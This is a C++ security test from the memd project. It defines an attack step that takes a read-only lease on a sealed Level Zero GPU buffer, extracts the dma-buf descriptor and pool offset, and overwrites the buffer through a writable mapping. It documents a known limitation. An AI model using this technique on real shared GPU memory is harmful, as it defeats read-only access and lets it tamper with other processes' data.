// Attack steps on Level Zero read leases (issue 22, finding 5): what a
// reader of a sealed buffer on a Level Zero GPU can do with what memd sends
// it. Level Zero exports device memory read-write only (zeMemGetIpcHandle
// takes no access flags, zeMemOpenIpcHandle opens read-write), so the step
// succeeds: docs/security.md lists it under what memd cannot prevent.

#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <span>
#include <string>

#include "absl/strings/str_cat.h"
#include "tests/client/pattern.h"
#include "tests/security/attack_steps.h"
#include "tests/security/attacks.h"
#include "tests/support/raw_session.h"

namespace memd::hostile {
namespace {

const char* AccessMode(int fd) {
  const int flags = ::fcntl(fd, F_GETFL);
  if (flags < 0) return "unknown";
  switch (flags & O_ACCMODE) {
    case O_RDONLY:
      return "O_RDONLY";
    case O_WRONLY:
      return "O_WRONLY";
    default:
      return "O_RDWR";
  }
}

}  // namespace

MEMD_ATTACK(write_through_ze_read_lease,
            "NAME SEED: opens NAME read-only (raw session), takes the Level Zero IPC "
            "descriptor and overwrites the buffer through a PROT_WRITE mapping of it "
            "with pattern SEED (tests/client/pattern.h). Prints 'handle TYPE', "
            "'descriptor ACCESS_MODE', 'mmap PROT_WRITE: mapped' (or 'refused: "
            "ERROR') and 'wrote N bytes'; exit 0 when it wrote, 4 when refused") {
  if (args.size() != 2) return 2;
  auto session = StepSession();
  if (!session) return 1;
  std::optional<LeaseWithDescriptor> opened = OpenWithDescriptor(*session, args[0], v1::READ);
  if (!opened) return 1;
  const v1::Lease& lease = opened->lease;
  const v1::Handle& handle = lease.handle();
  std::printf("handle %s\n", v1::HandleType_Name(handle.type()).c_str());
  const UniqueFd& fd = opened->fd;
  std::printf("descriptor %s\n", AccessMode(fd.get()));
  // Intel's layout of the handle (compute-runtime's IpcMemoryData): the
  // dma-buf descriptor, then where the allocation lies in the pooled block
  // that descriptor exposes.
  std::uint64_t pool_offset = 0;
  if (handle.ipc_handle().size() < 2 * sizeof(pool_offset)) {
    std::fprintf(stderr, "an IPC handle of %zu bytes\n", handle.ipc_handle().size());
    return 1;
  }
  std::memcpy(&pool_offset, handle.ipc_handle().data() + sizeof(pool_offset),
              sizeof(pool_offset));
  const std::uint64_t start = pool_offset + handle.offset();
  const std::uint64_t size = lease.buffer().size_bytes();
  void* map = ::mmap(nullptr, start + size, PROT_READ | PROT_WRITE, MAP_SHARED, fd.get(), 0);
  if (map == MAP_FAILED) {
    std::printf("mmap PROT_WRITE: refused: %s\n", std::strerror(errno));
    return 4;
  }
  std::printf("mmap PROT_WRITE: mapped\n");
  test::FillPattern(std::span(static_cast<std::byte*>(map) + start, size),
                    static_cast<std::uint32_t>(std::stoul(args[1])));
  ::munmap(map, start + size);
  std::printf("wrote %llu bytes\n", static_cast<unsigned long long>(size));
  return 0;
}

}  // namespace memd::hostile
